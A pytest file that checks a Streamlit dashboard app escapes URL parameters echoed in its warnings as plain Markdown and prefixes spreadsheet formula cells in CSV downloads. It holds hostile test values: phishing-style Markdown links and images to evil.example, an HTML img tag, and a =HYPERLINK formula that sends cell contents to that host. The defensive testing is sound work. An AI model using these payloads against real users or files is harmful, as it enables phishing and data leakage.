"""Hostile text in the dashboards: Markdown from shared links, formulas in CSV downloads.

A shared link's URL parameters are echoed in the app's own notices, and customer names from
the data come out in every CSV download. Neither may turn into something the app did not
write: a link or an image inside the app's warning box, or a spreadsheet formula that runs
when a downloaded file is opened.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import string
import urllib.parse
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
import test_app_signin as app_shell
from browser import CHROMIUM, chromium, dashboard_server
from browser import sign_in as browser_sign_in
from company_copies import copy_of_company
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest
from test_app_signin import PASSWORD, sign_in
from test_pages_apptest import VIEWERS, run_page

from foundation.warehouse import Warehouse

# The app-shell fixtures of the sign-in tests: a users file, the entry script, a new AppTest.
users_file, entry, new_app, tenant_ids = (
    app_shell.users_file, app_shell.entry, app_shell.new_app, app_shell.tenant_ids)

DASHBOARDS = Path(__file__).resolve().parents[2] / "dashboards"
LINK_AND_IMAGE = ("[Session expired - sign in again](https://evil.example/login) "
                  "![x](https://evil.example/t.png)")
# Streamlit's Markdown links bare addresses too (GFM autolink literals), and HTML and line
# breaks are Markdown of their own.
HOSTILE_VALUES = (
    LINK_AND_IMAGE,
    "https://evil.example/login",
    "www.evil.example",
    "phish@evil.example",
    "<img src=https://evil.example/h.png>",
    "TEN-001\n\n[again](https://evil.example/login)",
    ":red[alert] :material/warning: $\\href{https://evil.example}{x}$ **bold** # heading",
)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
WORD_JOINER = "\u2060"
# The bare-address patterns of the GFM autolink transform in Streamlit's Markdown renderer
# (mdast-util-gfm-autolink-literal), which runs on text after backslash escapes are resolved.
GFM_BARE_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE)
GFM_BARE_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")


# -- what Streamlit would make of a Markdown body ----------------------------------------------

def live_markup(body: str) -> list[str]:
    """ASCII punctuation in ``body`` that is not backslash-escaped: every Markdown construct
    (links, images, HTML, emphasis, code, headings, Streamlit's :directives: and $maths$)
    needs at least one."""
    live, index = [], 0
    while index < len(body):
        if body[index] == "\\" and index + 1 < len(body) and body[index + 1] in string.punctuation:
            index += 2
            continue
        if body[index] in string.punctuation:
            live.append(body[index])
        index += 1
    return live


def resolved_text(body: str) -> str:
    """The text of ``body`` once Markdown resolves its backslash escapes."""
    return re.sub(r"\\([" + re.escape(string.punctuation) + "])", r"\1", body)


def assert_plain(body: str, shown: str) -> None:
    """``body`` renders as exactly ``shown`` (word joiners aside) with no markup and no link."""
    assert live_markup(body) == [], body
    text = resolved_text(body)
    assert "\n" not in text and "\r" not in text
    assert not GFM_BARE_URL.search(text) and not GFM_BARE_EMAIL.search(text), text
    assert text.replace(WORD_JOINER, "") == shown


def as_one_line(value: str) -> str:
    """How the app names a value with invisible characters: as Python writes them."""
    return "".join(char if char.isprintable() else repr(char)[1:-1] for char in value)


# -- Markdown: the escaping rule ---------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_escape_markdown_leaves_only_plain_text(value: str) -> None:
    from dashboards.components import escape_markdown

    assert_plain(escape_markdown(value), as_one_line(value))


def test_escape_markdown_keeps_ordinary_text_readable() -> None:
    from dashboards.components import escape_markdown

    assert escape_markdown("Acme Corp 42") == "Acme Corp 42"
    assert escape_markdown("TEN-001") == "TEN\\-001"
    assert escape_markdown("a\tb\u202ec") == "a\\\\tb\\\\u202ec"  # shown as a\tb\u202ec
    assert escape_markdown(Path("/srv/opsintel_data/users.toml")) == \
        "\\/srv\\/opsintel\\_data\\/users\\.toml"


# -- Markdown: shared links through the app ----------------------------------------------------

def _url_warning(at: AppTest, parameter: str) -> str:
    [body] = [w.value for w in at.warning if resolved_text(w.value).startswith(f"URL parameter {parameter}=")]
    return body


def test_tenant_in_a_shared_link_is_echoed_as_plain_text(new_app, users_file) -> None:
    at = new_app()
    at.query_params = {"tenant": LINK_AND_IMAGE}
    sign_in(at.run(), "root")
    assert not at.exception, at.exception
    assert_plain(_url_warning(at, "tenant"),
                 f"URL parameter tenant={LINK_AND_IMAGE} is not a tenant you can see: ignored")


def test_segment_in_a_shared_link_is_echoed_as_plain_text(new_app, users_file, built_company) -> None:
    con = Warehouse(built_company).reader()
    segments = [row[0] for row in con.execute(
        "select distinct segment from marts.dim_customer order by segment").fetchall()]
    con.close()
    at = new_app()
    at.query_params = {"segment": LINK_AND_IMAGE}
    sign_in(at.run(), "root")
    assert not at.exception, at.exception
    assert_plain(_url_warning(at, "segment"),
                 f"URL parameter segment={LINK_AND_IMAGE!r} is not one of "
                 f"{', '.join(segments)}: showing all segments")


def test_every_hostile_value_in_a_shared_link_stays_plain(new_app, users_file) -> None:
    at = new_app()
    at.query_params = {"tenant": list(HOSTILE_VALUES)}
    sign_in(at.run(), "root")
    assert not at.exception, at.exception
    shown = ", ".join(as_one_line(value) for value in HOSTILE_VALUES)
    assert_plain(_url_warning(at, "tenant"),
                 f"URL parameter tenant={shown} is not a tenant you can see: ignored")


@pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed")
def test_shared_link_puts_no_link_or_image_in_the_browser(built_company, users_file, tmp_path) -> None:
    from selenium.webdriver.common.by import By

    env = {"OPSINTEL_WAREHOUSE": str(built_company), "OPSINTEL_USERS": str(users_file),
           "OPSINTEL_AS_OF_DATE": "2026-10-31"}
    query = urllib.parse.urlencode([("tenant", value) for value in HOSTILE_VALUES]
                                   + [("segment", LINK_AND_IMAGE)])
    with dashboard_server(env, tmp_path / "logs") as server, chromium() as driver:
        browser_sign_in(driver, f"{server.url}/?{query}", "root", PASSWORD)
        links = [a.get_attribute("href") for a in driver.find_elements(By.CSS_SELECTOR, "a[href]")]
        images = [i.get_attribute("src") for i in driver.find_elements(By.CSS_SELECTOR, "img[src]")]
        warnings = [w.text.replace(WORD_JOINER, "") for w in driver.find_elements(
            By.CSS_SELECTOR, '[data-testid="stAlertContentWarning"]')]
    assert not [href for href in links if "evil.example" in href], links
    assert not [src for src in images if "evil.example" in src], images
    assert any(text.startswith(f"URL parameter tenant={LINK_AND_IMAGE}, https://evil.example/login")
               and text.endswith("is not a tenant you can see: ignored") for text in warnings), warnings
    assert any(text.startswith(f"URL parameter segment={LINK_AND_IMAGE!r}") for text in warnings), warnings


# -- CSV: the neutralising rule ----------------------------------------------------------------

def read_csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1", "\r=1", FORMULA_NAME])
@pytest.mark.parametrize("dtype", [object, "str", "string", "category"])
def test_csv_bytes_prefixes_cells_a_spreadsheet_would_run(cell: str, dtype) -> None:
    from dashboards.components import csv_bytes

    frame = pd.DataFrame({"name": pd.Series([cell, "Acme"], dtype=dtype)})
    assert read_csv_cells(csv_bytes(frame)) == [["name"], [f"'{cell}"], ["Acme"]]
    assert frame["name"].iloc[0] == cell  # the table on screen keeps the name as it is


def test_csv_bytes_leaves_text_numbers_and_missing_values_alone() -> None:
    from dashboards.components import csv_bytes

    frame = pd.DataFrame({
        "name": pd.Series(["Acme", "a=b", "'quoted", "", None], dtype=object),
        "text": pd.Series(["x", None, "y", "z", float("nan")], dtype="str"),
        "movement": [-120.50, -3.0, 0.0, 7.25, float("nan")],
        "count": pd.Series([-3, 1, 2, 3, 4], dtype="int64"),
        "exact": pd.Series([Decimal("-120.50"), None, Decimal("1.00"), Decimal(2), Decimal("-0.01")],
                           dtype=object),
        "day": pd.to_datetime(["2026-10-01"] * 5),
        "flag": [True, False, True, False, True],
    })
    assert csv_bytes(frame) == frame.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
    rows = read_csv_cells(csv_bytes(frame))
    assert [row[2] for row in rows[1:]] == ["-120.5", "-3.0", "0.0", "7.25", ""]
    assert [row[3] for row in rows[1:]] == ["-3", "1", "2", "3", "4"]
    assert [row[4] for row in rows[1:]] == ["-120.50", "", "1.00", "2", "-0.01"]


def test_csv_bytes_handles_repeated_column_names() -> None:
    from dashboards.components import csv_bytes

    frame = pd.DataFrame([["=1", -1.5, "+2"]], columns=["a", "b", "a"])
    assert read_csv_cells(csv_bytes(frame)) == [["a", "b", "a"], ["'=1", "-1.5", "'+2"]]


# -- CSV: customer names through the pages' downloads ------------------------------------------

@pytest.fixture(scope="module")
def formula_company(built_company: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the company whose every customer is named ``FORMULA_NAME`` in the marts."""
    path = copy_of_company(built_company, tmp_path_factory.mktemp("formula"))
    with Warehouse(path).writer() as con:
        tables = [row[0] for row in con.execute("""
            select c.table_name from information_schema.columns as c
            join information_schema.tables as t using (table_schema, table_name)
            where c.table_schema = 'marts' and c.column_name = 'customer_name'
              and t.table_type = 'BASE TABLE'
        """).fetchall()]
        assert "dim_customer" in tables
        for table in tables:
            con.execute(f"update marts.{table} set customer_name = $name", {"name": FORMULA_NAME})
    return path


@pytest.fixture
def media_storages(monkeypatch: pytest.MonkeyPatch) -> list[MemoryMediaFileStorage]:
    """The media storage of each AppTest run, kept past the run to read the downloads it offered."""
    from streamlit.testing.v1 import app_test

    kept: list[MemoryMediaFileStorage] = []

    class KeptStorage(MemoryMediaFileStorage):
        def __init__(self, media_endpoint: str) -> None:
            super().__init__(media_endpoint)
            kept.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", KeptStorage)
    return kept


def offered_downloads(at: AppTest, storage: MemoryMediaFileStorage) -> dict[str, bytes]:
    """File name -> bytes of every download button of the last run."""
    files = {}
    for button in at.download_button:
        file = storage.get_file(button.proto.url.rsplit("/", 1)[-1])
        files[file.filename] = file.content
    return files


def csv_records(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def cells_that_would_run(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting like one and not a number."""
    found = []
    for row in read_csv_cells(data)[1:]:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)  # a negative amount is a number, not a formula
                except ValueError:
                    found.append(cell)
    return found


def test_revenue_downloads_neutralise_a_formula_customer_name(formula_company, media_storages) -> None:
    viewer = VIEWERS["executive"]  # TEN-001, in its reporting currency
    at = run_page(formula_company, "revenue", viewer)
    assert not at.exception, at.exception
    files = offered_downloads(at, media_storages[-1])
    assert {name: cells_that_would_run(data) for name, data in files.items()} == \
        {name: [] for name in files}
    movements = csv_records(files["mrr_movements_2026_10.csv"])
    con = Warehouse(formula_company).reader()
    expected = con.execute("""
        select customer_id, mrr - previous_mrr as movement from marts.fct_mrr_movements
        where tenant_id = 'TEN-001' and month_start = date '2026-10-01' and movement_type <> 'none'
        order by customer_id
    """).fetchall()
    con.close()
    assert any(movement < 0 for _, movement in expected)  # contraction or churn in the month
    assert [(row["customer_id"], float(row["movement_amount"])) for row in movements] == \
        [(customer, pytest.approx(float(movement))) for customer, movement in expected]
    assert {row["customer_name"] for row in movements} == {f"'{FORMULA_NAME}"}
    # On screen the name stays as the data has it.
    shown = [frame.value for frame in at.dataframe if "customer_name" in frame.value.columns]
    assert shown and all(set(frame["customer_name"]) == {FORMULA_NAME} for frame in shown)


def test_billing_downloads_neutralise_a_formula_customer_name(formula_company, media_storages) -> None:
    at = run_page(formula_company, "billing_operations", VIEWERS["analyst"])
    assert not at.exception, at.exception
    files = offered_downloads(at, media_storages[-1])
    assert {name: cells_that_would_run(data) for name, data in files.items()} == \
        {name: [] for name in files}
    con = Warehouse(formula_company).reader()
    unbilled = con.execute("select count(*) from marts.fct_unbilled_work").fetchone()[0]
    con.close()
    for name in ("billing_exceptions.csv", "unbilled_work.csv"):
        rows = csv_records(files[name])
        assert rows, name
        assert {row["customer_name"] for row in rows} == {f"'{FORMULA_NAME}"}, name
    assert len(csv_records(files["unbilled_work.csv"])) == unbilled


def test_every_download_in_the_app_goes_through_csv_bytes() -> None:
    """Statically: each st.download_button's data is csv_bytes(...), and no page writes a CSV
    itself, so a new download cannot skip the rule."""
    offenders = []
    for path in sorted(DASHBOARDS.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        inside_csv_bytes = {id(node) for function in ast.walk(tree)
                            if isinstance(function, ast.FunctionDef) and function.name == "csv_bytes"
                            for node in ast.walk(function)}
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = _called_name(node)
            where = f"{path.relative_to(DASHBOARDS.parent)}:{node.lineno}"
            if name == "download_button":
                data = node.args[1] if len(node.args) > 1 else next(
                    (k.value for k in node.keywords if k.arg == "data"), None)
                if not (isinstance(data, ast.Call) and _called_name(data) == "csv_bytes"):
                    offenders.append(f"{where}: download_button data is not csv_bytes(...)")
            elif name == "to_csv" and id(node) not in inside_csv_bytes:
                offenders.append(f"{where}: to_csv outside csv_bytes")
    assert not offenders, "\n".join(offenders)


def _called_name(call: ast.Call) -> str | None:
    if isinstance(call.func, ast.Attribute):
        return call.func.attr
    return call.func.id if isinstance(call.func, ast.Name) else None


def test_tables_offer_no_download_of_their_own() -> None:
    # st.dataframe's toolbar download writes cells as they are; only csv_bytes may hand out CSV.
    import tomllib

    from streamlit import config

    from foundation.settings import REPO_ROOT

    settings = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config._config_options_template  # the option's real name
